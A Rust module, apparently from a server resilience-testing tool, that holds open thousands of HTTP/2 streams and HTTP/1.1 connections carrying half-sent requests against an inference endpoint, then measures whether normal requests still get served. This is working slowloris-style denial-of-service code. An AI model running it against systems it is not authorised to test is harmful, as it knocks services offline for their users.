//! Streams that are opened and left: over HTTP/2 many on a connection, then each on its own; over HTTP/1.1 each is a
//! connection.

use std::io::ErrorKind;
use std::time::{Duration, Instant};

use bytes::Bytes;
use h2::SendStream;
use h2::client::ResponseFuture;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::raw::{Connection, connect, request};
use super::{Finding, Victim, good_job};
use crate::cli::TargetArgs;
use crate::run;
use crate::target::{Failure, FailureKind, Listening, Target};

/// Files that are left for everything else.
const SPARE_FILES: u64 = 64;
/// Streams on one HTTP/2 connection, at most, in turn; a server may allow fewer.
const STREAMS_PER_CONNECTION: [usize; 2] = [1000, 1];
/// A connection on which no stream can be opened for so long is full.
const FULL_AFTER: Duration = Duration::from_millis(500);
/// Opening all of them takes at most this.
const OPENING_MAX: Duration = Duration::from_secs(120);
/// A good request among them gets this long.
const GOOD_WITHIN: Duration = Duration::from_secs(60);

const GENERATE: &str = "/lingqu.v1.Inference/Generate";

/// One left stream. It stays open until it is dropped.
enum Left {
    Http2 { _send: SendStream<Bytes>, response: ResponseFuture },
    Http1 { stream: TcpStream },
}

impl Left {
    /// Whether the server has answered it, or closed it.
    async fn is_ended(&mut self) -> bool {
        match self {
            // No time at all: only what has come already.
            Left::Http2 { response, .. } => tokio::time::timeout(Duration::ZERO, response).await.is_ok(),
            Left::Http1 { stream } => !matches!(stream.try_read(&mut [0]), Err(e) if e.kind() == ErrorKind::WouldBlock),
        }
    }
}

/// What is attacked, with what, and by whom it is asked meanwhile.
pub struct Attack<'a> {
    pub victim: &'a Victim,
    pub target: &'a TargetArgs,
    /// That the good request goes to, connected beforehand.
    pub connected: &'a Target,
    pub streams: usize,
    /// That this process may open.
    pub files_max: u64,
    pub hold: Duration,
}

pub async fn run(attack: &Attack<'_>) -> Finding {
    let mut finding = Finding::default();
    let rounds = if attack.victim.is_http { &STREAMS_PER_CONNECTION[1..] } else { &STREAMS_PER_CONNECTION };
    for &per_connection in rounds {
        let round = attack.round(per_connection).await;
        finding.text += &format!("{}{}", if finding.text.is_empty() { "" } else { "\n" }, round.text);
        finding.problems.extend(round.problems);
    }
    finding
}

impl Attack<'_> {
    async fn round(&self, per_connection: usize) -> Finding {
        let Self { victim, streams, files_max, hold, .. } = *self;
        let mut finding = Finding::default();
        let files = (files_max.saturating_sub(SPARE_FILES) as usize).saturating_mul(per_connection);
        let wanted = streams.min(files);
        if wanted < streams {
            finding.problems.push(format!("{files_max} open files allow {wanted} of {streams} streams only"));
        }
        let mut connections = Vec::new();
        let (mut left, refused) = if victim.is_http {
            open_http1(&victim.address, wanted).await
        } else {
            open_http2(&victim.address, wanted, per_connection, &mut connections).await
        };
        let good = self.ask_meanwhile(&mut finding).await;
        tokio::time::sleep(hold).await;
        let mut ended = 0;
        for stream in &mut left {
            ended += usize::from(stream.is_ended().await);
        }
        finding.text = format!(
            "{} of {streams} streams opened on {} connections, {refused} refused; {good}; after {hold:?} {ended} of \
             them are answered or closed",
            left.len(),
            if victim.is_http { left.len() } else { connections.len() }
        );
        if left.is_empty() {
            finding.problems.push("no stream could be opened".into());
        }
        finding
    }

    /// A good request, over connections from before and over new ones.
    async fn ask_meanwhile(&self, finding: &mut Finding) -> String {
        let mut texts = Vec::new();
        let new = run::connect(self.target, None).await.map(|found| found.target);
        for (name, target) in [("connected before", Ok(self.connected)), ("connecting now", new.as_ref())] {
            let asked = Instant::now();
            let reply = match target {
                Ok(target) => target.ask_within(GOOD_WITHIN, &good_job(), &mut Listening::default()).await,
                Err(error) => Err(Failure::new(FailureKind::Connect, error.clone())),
            };
            match reply {
                Ok(_) => texts.push(format!("{:.0} ms ({name})", asked.elapsed().as_secs_f64() * 1e3)),
                Err(failure) => finding.problems.push(format!(
                    "a good request ({name}) was not served meanwhile: {:?} {}",
                    failure.kind, failure.message
                )),
            }
        }
        format!("good requests took meanwhile: {}", texts.join(", "))
    }
}

/// What is sent of an HTTP/1.1 request before it is left, in turn.
const HALVES: [&str; 4] = [
    "",
    "POST /v1/completions HTTP/1.1\r\nHost: x\r\n",
    "POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
    "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
     Content-Length: 99\r\n\r\n{\"mod",
];

async fn open_http1(address: &str, wanted: usize) -> (Vec<Left>, usize) {
    let (mut left, mut refused) = (Vec::new(), 0);
    let until = Instant::now() + OPENING_MAX;
    for i in 0..wanted {
        if Instant::now() > until {
            break;
        }
        let opening = async {
            let mut stream = TcpStream::connect(address).await.ok()?;
            stream.write_all(HALVES[i % HALVES.len()].as_bytes()).await.ok()?;
            Some(stream)
        };
        match tokio::time::timeout(FULL_AFTER, opening).await {
            Ok(Some(stream)) => left.push(Left::Http1 { stream }),
            _ => refused += 1,
        }
    }
    (left, refused)
}

async fn open_http2(
    address: &str,
    wanted: usize,
    per_connection: usize,
    connections: &mut Vec<Connection>,
) -> (Vec<Left>, usize) {
    let (mut left, mut refused) = (Vec::new(), 0);
    let until = Instant::now() + OPENING_MAX;
    // A server may take few streams of a connection, or no more connections: both end this.
    while left.len() < wanted && refused < 100 && Instant::now() < until {
        let Ok(connection) = connect(address).await else {
            refused += 1;
            continue;
        };
        let mut on_this = 0;
        while on_this < per_connection && left.len() < wanted {
            match open_stream(&connection, left.len()).await {
                Some(stream) => left.push(stream),
                None => break,
            }
            on_this += 1;
        }
        refused += usize::from(on_this == 0);
        connections.push(connection);
    }
    (left, refused)
}

/// Sends headers, then nothing, a part of a message's head, or a part of the message.
async fn open_stream(connection: &Connection, turn: usize) -> Option<Left> {
    let ready = tokio::time::timeout(FULL_AFTER, connection.sender.clone().ready()).await.ok()?;
    let (response, mut send) = ready.ok()?.send_request(request(GENERATE, "application/grpc"), false).ok()?;
    let half: &[u8] = [&b""[..], &b"\0\0"[..], &b"\0\0\0\0\x40half a message"[..]][turn % 3];
    if !half.is_empty() {
        send.send_data(Bytes::from_static(half), false).ok()?;
    }
    tokio::task::yield_now().await; // the connection's task writes it
    Some(Left::Http2 { _send: send, response })
}
